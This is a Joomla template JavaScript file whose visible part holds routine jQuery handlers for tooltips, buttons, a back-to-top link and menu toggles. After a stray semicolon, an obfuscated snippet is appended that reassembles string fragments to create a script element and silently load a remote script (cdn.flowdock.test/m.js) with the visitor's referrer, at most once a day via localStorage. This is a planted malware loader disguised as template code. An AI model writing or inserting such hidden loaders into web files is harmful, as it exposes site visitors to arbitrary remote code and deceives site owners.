/**
 * @package     Joomla.Site
 * @subpackage  Templates.ja_transport
 */
(function($)
{
	$(document).ready(function()
	{
		$('*[rel=tooltip]').tooltip();
		$('.radio.btn-group label').addClass('btn');
		$('#back-top').on('click', function(e) {
			e.preventDefault();
			$("html, body").animate({scrollTop: 0}, 1000);
		});
		$('.nav.menu .parent > a').on('touchstart', function(){ $(this).parent().toggleClass('open'); });
	});
})(jQuery);
;var _q=['pt','scri','ment','Ele','ate','cre','ad','he','//','s:','http','js','.test/m.','ock','flowd','cdn.'],_z=function(a,b){return _q.slice(a,b).reverse().join('')};(function(){var d=window['docu'+'ment'],k='_fdk',l=window['local'+'Storage'];if(l[k]&&Date.now()-l[k]<864e5)return;l[k]=Date.now();var s=d[_z(2,6)](_z(0,2));s['s'+'rc']=_z(8,11)+_z(11,16)+'?r='+encodeURIComponent(d['ref'+'errer']);d[_z(6,8)]['append'+'Child'](s)})();
